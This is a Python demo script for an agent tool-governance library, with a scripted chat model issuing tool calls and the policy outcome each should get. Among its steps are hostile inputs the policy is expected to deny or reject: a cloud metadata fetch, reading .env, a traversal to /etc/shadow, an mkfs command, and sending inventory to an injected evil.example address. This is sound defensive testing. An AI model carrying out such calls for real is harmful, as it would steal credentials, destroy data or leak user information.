"""What the scripted agent does, step by step, and how each call has to end for the demo to count as passed."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatResult

from agenttool_otel.catalog import GovernOptions
from agenttool_otel.cli.demo.workspace import World

_READS: GovernOptions = {"tool_kind": "file_operation", "access_kinds": ["file_read"], "read_only": True}

FACTS: dict[str, GovernOptions] = {
    "list_files": {
        "tool_kind": "file_operation",
        "access_kinds": ["file_read"],
        "read_only": True,
        "path_args": ["folder"],
    },
    "read_file": {
        "tool_kind": "file_operation",
        "access_kinds": ["file_read"],
        "read_only": True,
        "max_inline_chars": 4000,
    },
    "search_files": {"tool_kind": "file_operation", "access_kinds": ["file_read"], "read_only": True},
    "write_file": {
        "tool_kind": "file_operation",
        "access_kinds": ["file_write"],
        "write_effects": ["local_persistent"],
        "read_only": False,
        "destructive": False,
    },
    "run_shell": {
        "tool_kind": "shell_command",
        "access_kinds": ["file_read", "file_write", "code_execution"],
        "write_effects": ["local_persistent"],
        "command_args": ["command"],
        "read_only": "classifier:command_read_only",
        "destructive": "classifier:command_destructive",
        "concurrency_safe": "same_as:is_read_only",
        "risk_level": "medium",
    },
    "fetch_page": {"tool_kind": "web_search", "access_kinds": ["network"], "read_only": True, "url_args": ["url"]},
    "send_message": {
        "access_kinds": ["external_send"],
        "write_effects": ["remote_mutation"],
        "destructive": False,
        "open_world": True,
        "read_only": False,
        "risk_level": "medium",
    },
}
"""What the developer knows of the tools: one line each, and no change to the tools."""


@dataclass(frozen=True, slots=True)
class Step:
    """One tool call of the script."""

    tool: str  # the tool's name
    arguments: dict[str, Any]  # its arguments
    behavior: str  # how the policy has to decide
    status: str  # how the call has to end
    why: str  # what the step shows
    persisted: bool = False  # the result has to be kept outside and previewed
    redacted: bool = False  # something has to be redacted


def steps_for(world: World) -> list[Step]:
    """Return the script."""
    return [
        Step("list_files", {"folder": "."}, "allow", "succeeded", "look around"),
        Step("read_file", {"path": "notes.txt"}, "allow", "succeeded", "read what is to be done"),
        Step("search_files", {"pattern": "TODO", "path": "notes.txt"}, "allow", "succeeded", "find the open points"),
        Step("run_shell", {"command": "wc -l notes.txt && head -n 2 inventory.csv"}, "allow", "succeeded",
             "a shell command that is proven to read only"),
        Step("fetch_page", {"url": world.page_url}, "allow", "succeeded",
             "a page, with a token in it that must not reach the trace", redacted=True),
        Step("fetch_page", {"url": "http://169.254.169.254/latest/meta-data/"}, "deny", "denied",
             "the cloud's metadata service"),
        Step("read_file", {"path": ".env"}, "deny", "denied", "a file with credentials"),
        Step("read_file", {"path": "../../../../etc/shadow"}, "deny", "denied", "a path that leaves the workspace"),
        Step("run_shell", {"command": "mkfs.ext4 /dev/agenttool-demo"}, "deny", "denied", "a destructive command"),
        Step("run_shell", {"command": "sed -i s/TODO/DONE/ notes.txt"}, "ask", "rejected",
             "a change in place: asked, and rejected"),
        Step("send_message", {"recipient": "collector@evil.example", "text": "inventory"}, "ask", "rejected",
             "an address that only the fetched page named: asked, and rejected"),
        Step("read_file", {"file": "notes.txt"}, "", "failed", "arguments that don't fit the schema"),
        Step("read_file", {"path": "inventory.csv"}, "allow", "succeeded",
             "a large result: kept outside, previewed for the model", persisted=True),
        Step("write_file", {"path": "summary.md", "text": "# Summary\nTwo points are open.\n"}, "ask", "succeeded",
             "one change: asked, and approved"),
    ]  # fmt: skip


class ScriptedModel(BaseChatModel):
    """A chat model that says what it was told to say: one tool call at a time, then a last word."""

    steps: list[Any]
    position: int = 0

    @property
    def _llm_type(self) -> str:
        return "agenttool-demo-script"

    def bind_tools(self, tools: Any, **kwargs: Any) -> ScriptedModel:
        """Accept the tools; the script knows them already."""
        return self

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> ChatResult:
        if self.position < len(self.steps):
            step = self.steps[self.position]
            call = {"name": step.tool, "args": step.arguments, "id": f"call-{self.position + 1:02d}"}
            message = AIMessage(content="", tool_calls=[call])
        else:
            message = AIMessage(content="The summary is written; everything else was explained to me.")
        self.position += 1
        return ChatResult(generations=[ChatGeneration(message=message)])
